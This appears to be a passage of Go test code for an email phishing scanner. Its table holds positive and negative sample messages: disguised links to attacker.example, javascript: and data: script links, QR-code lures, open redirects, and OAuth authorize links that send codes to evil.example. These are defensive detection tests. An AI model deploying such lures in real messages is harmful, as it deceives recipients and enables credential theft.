			{"newsletter's social links", body(`<a href="https://click.news.example/c?id=9">View on Instagram</a> <a href="https://click.news.example/c?id=10">Open in Google Maps</a> <a href="https://click.news.example/c?id=11">Follow us on LinkedIn</a>`), ""},
			{"shared hosting is free-hosting-lure's", body(`<a href="https://team-chat-84aa.vercel.app/">Sign in to Microsoft Teams</a>`), ""},
			{"text shows a domain", body(`<a href="https://attacker.example/">www.paypal.com/signin</a>`), ""},
		},
		"data-link": {
			{"anchor", body(`<a href="data:text/html;base64,PHNjcmlwdD4=">Open</a>`), "1"},
			{"form action", body(`<form action="data:text/html,x"></form>`), "1"},
			{"inline image", body(`<img src="data:image/png;base64,iVBORw0KGgo=">`), ""},
		},
		"javascript-link": {
			{"anchor", body(`<a href="javascript:alert(1)">x</a>`), "1"},
			{"split by newline", body("<a href=\"java\nscript:alert(1)\">x</a>"), "1"},
			{"https", body(`<a href="https://example.com/">x</a>`), ""},
		},
		"qr-url": {
			{"png", msg(text("1", "Scan the code."), part("2", qrPNG(t, "https://login.example.net/x"), named("code.png"))), "2"},
			{"ticket text", msg(text("1", "Your ticket."), part("2", qrPNG(t, "TICKET 42 ROW 7"), named("ticket.png"))), ""},
			{"plain image", msg(text("1", "Photo."), part("2", pngBytes, named("photo.png"))), ""},
		},
		"qr-only-link": {
			{"quishing", msg(text("1", "Scan to keep your mailbox."), part("2", qrPNG(t, "https://mailbox-keep.example.net/x"), named("code.png"))), "2"},
			{"sender's own site", msg(text("1", "Your ticket."), part("2", qrPNG(t, "https://tickets.example.com/t/42"), named("ticket.png"))), ""},
			{"From's site, another envelope", &message.Message{From: "Conf <tickets@conf.example.org>", Envelope: message.Envelope{Sender: "bounce-7@esp.example.net"},
				Parts: []*message.Part{text("1", "Your ticket."), part("2", qrPNG(t, "https://conf.example.org/t/42"), named("ticket.png"))}}, ""},
			{"with other links", msg(text("1", "Programme: https://conf.example.org/programme"), part("2", qrPNG(t, "https://conf.example.org/t/42"), named("ticket.png"))), ""},
		},
		"image-not-searched": {
			{"huge", msg(text("1", "Photo."), part("2", hugePNG(t), named("pano.png"))), "2"},
			{"small", msg(text("1", "Photo."), part("2", pngBytes, named("photo.png"))), ""},
		},
		"redirect-url": {
			{"google", body(`<a href="https://www.google.com/url?q=https%3A%2F%2Fevil.example%2F">x</a>`), "1"},
			{"safe links", body(`<a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.org%2F&amp;data=1">x</a>`), "1"},
			{"tracking", body(`<a href="https://click.news.example/c?id=1&amp;url=https%3A%2F%2Fshop.example%2F">x</a>`), "1"},
			{"plain", body(`<a href="https://www.example.org/?id=1">x</a>`), ""},
		},
		"open-redirect": {
			{"google", body(`<a href="https://www.google.com/url?q=https%3A%2F%2Fevil.example%2F">Your invoice</a>`), "1"},
			{"bing", msg(text("1", "https://www.bing.com/ck/a?u=a1aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4_eD0x")), "1"},
			{"google to google", body(`<a href="https://www.google.com/url?q=https://www.google.com/maps">x</a>`), ""},
			{"safe links", body(`<a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.org%2F">x</a>`), ""},
			{"tracking", body(`<a href="https://click.news.example/c?url=https%3A%2F%2Fshop.example%2F">x</a>`), ""},
			{"Microsoft OAuth, no prompt", body(`<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&response_type=code&redirect_uri=https%3A%2F%2Fevil.example%2Fdoc&scope=openid+bad&prompt=none">Review document</a>`), "1"},
			{"Google OAuth", body(`<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=1&redirect_uri=https://evil.example/cb&response_type=code&scope=x">Open</a>`), "1"},
			{"Microsoft sign-in back to Microsoft", body(`<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&redirect_uri=https%3A%2F%2Fportal.microsoftonline.com%2F&response_type=code">Sign in</a>`), ""},
			{"other Microsoft sign-in parameter", body(`<a href="https://login.microsoftonline.com/common/reprocess?redirect_uri=https://evil.example/">x</a>`), ""},
		},
	}
	for id, samples := range officeCheckCases() {
		cases[id] = samples
	}
	for _, more := range []map[string][]sample{remoteFetchCases(), officeLinkCheckCases(), clickfixCases(), clickfixTextCases(), calendarCases(), organizerCases(), officeURICases(), shareLinkCases(), legacyTextCases(), oleLinkCases(), xlsbConnectionCases(), formulaFetchCases(), queryFileCases(), lureGapCases(), personalShareCases(), noticeLureCases()} {
		for id, samples := range more {
			cases[id] = append(cases[id], samples...)
		}
	}
	for id, samples := range htmlPhishCases() {
		cases[id] = append(cases[id], samples...)
	}
	for id, samples := range bodyTextCases(t) {
		cases[id] = append(cases[id], samples...)
	}
	for id, samples := range senderCases() {
		cases[id] = append(cases[id], samples...)
	}
	// the dangerous names (names_test.go), SVG loaders (svgloader_test.go)
	for _, more := range []map[string][]sample{nameCases(), svgLoaderCases(), xhtCases(), redirectGateCases(), autoRunCases(), redTeamCases()} {
		for id, samples := range more {
			cases[id] = append(cases[id], samples...)
		}
	}
	s := newScanner(t)
	for _, c := range Checks() {
		samples, ok := cases[c.ID]
		if !ok {
			t.Errorf("check %s has no test samples", c.ID)
			continue
		}
		pos := 0
		for _, sm := range samples {
			if sm.part != "" {
				pos++
			}
			t.Run(c.ID+"/"+sm.name, func(t *testing.T) {
				fs := scan(t, s, sm.m)
				f := find(fs, c.ID)
				want := sm.part
				if want == wholeMessage {
					want = ""
				}
				switch {
				case sm.part == "" && f != nil:
					t.Errorf("unexpected %s on %s: %s", c.ID, f.Part, f.Detail)
				case sm.part != "" && f == nil:
					t.Errorf("no %s finding; got %+v", c.ID, fs)
				case sm.part != "" && f.Part != want:
					t.Errorf("%s on part %q, want %q", c.ID, f.Part, want)
				case f != nil && (f.Severity != c.Severity || f.Score != c.Score || f.Scanner != Name || f.Detail == ""):
					t.Errorf("finding %+v does not carry the check's defaults %+v", *f, c)
				}
			})
		}
		if pos == 0 {
			t.Errorf("check %s has no positive sample", c.ID)
		}
	}
	for id := range cases {
		if !known(id) {
			t.Errorf("samples for unknown check %s", id)
		}
	}
}

func known(id string) bool {
	for _, c := range Checks() {
		if c.ID == id {
			return true
		}
	}
	return false
}

// qrPNG is text as a QR code in a PNG.
func qrPNG(t testing.TB, text string) []byte {
	t.Helper()
	b, err := qrcode.Encode(text, qrcode.Medium, 256)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// hugePNG is a white PNG over the pixel limit for codes.
func hugePNG(t testing.TB) []byte {
	t.Helper()
	g := image.NewGray(image.Rect(0, 0, 4100, 3001))
	var b bytes.Buffer
	if err := png.Encode(&b, g); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
